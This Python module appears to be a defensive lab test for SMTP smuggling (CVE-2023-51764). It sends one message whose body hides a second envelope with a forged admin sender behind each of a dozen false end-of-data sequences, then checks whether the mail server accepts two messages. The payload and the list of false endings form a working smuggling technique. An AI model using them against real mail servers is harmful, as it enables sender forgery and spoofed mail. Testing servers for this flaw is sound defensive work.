"""no-smuggling: one message stays one message, whatever line ends its text holds."""

from __future__ import annotations

from lab.behaviours.base import Behaviour, Change, Finding, ProbeFailed, Twin, exposed, hardened
from lab.behaviours.stack import Lab
from lab.wire import Transcript, WireClosed

# Ends of data that a tolerant parser takes for the real one (CVE-2023-51764 and its kind).
FALSE_ENDS = (
    *(b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r\n.\r", b"\r.\r\n", b"\n.\r"),
    *(b"\r\n\0.\r\n", b"\r\n.\0\r\n", b"\r\n.\r\r\n", b"\r\r\n.\r\r\n", b"\r\n. \r\n"),
)


async def smuggle(end: bytes, lab: Lab, evidence: Transcript) -> list[str]:
    """Send a message that hides a second one behind `end`; what the server says to it, and after it."""
    alice = lab.user("alice").address
    async with await lab.smtp("mailhost.smtp", evidence) as smtp:
        await smtp.ehlo()
        await smtp.command("MAIL FROM:<friend@outside.example>")
        await smtp.command(f"RCPT TO:<{alice}>")
        await smtp.command("DATA")
        hidden = f"MAIL FROM:<admin@{lab.domain}>\r\nRCPT TO:<{alice}>\r\nDATA\r\nSubject: smuggled\r\n\r\n".encode()
        await smtp.send_raw(b"Subject: harmless\r\n\r\nbody" + end + hidden + b"\r\n.\r\n")
        answers = [str(await smtp.reply())]
        await smtp.send("NOOP")
        try:
            while answers[-1] != "250 2.0.0 Ok" and len(answers) < 6:
                answers.append(str(await smtp.reply()))
        except WireClosed:
            answers.append("closed")
    return answers


async def probe(lab: Lab, evidence: Transcript) -> Finding:
    """No false end of data makes a second message."""
    answers: list[str] = []
    for end in FALSE_ENDS:
        answers = await smuggle(end, lab, evidence)
        # Two messages taken, or the hidden envelope answered: the server has seen two messages.
        taken = sum("queued as" in answer for answer in answers)
        if taken > 1 or any(answer.startswith(("354 ", "250 2.1.5 ")) for answer in answers):
            return exposed(f"{end!r} ends the message: {' | '.join(answers)}")
        if not answers[0].startswith(("250 ", "5")):
            raise ProbeFailed(f"{end!r}: {' | '.join(answers)}")
    return hardened(f"{len(FALSE_ENDS)} false ends of data make no second message; the last: {' | '.join(answers)}")


BEHAVIOUR = Behaviour(
    slug="no-smuggling",
    title="No second mail hides inside a mail",
    source="the class of CVE-2023-51764",
    why="Two servers that disagree about where a mail ends can be made to take one mail for two, the second "
    "with a forged sender (CVE-2023-51764). Only CR LF . CR LF ends a mail.",
    configuration=(Change("mailhost/main.cf", "smtpd_forbid_bare_newline = "),),
    expectation="521 5.5.2 or 550, or one message that stays one message",
    probe=probe,
    twin=Twin((Change("mailhost/main.cf", "smtpd_forbid_bare_newline = no"),), "one message becomes two"),
)
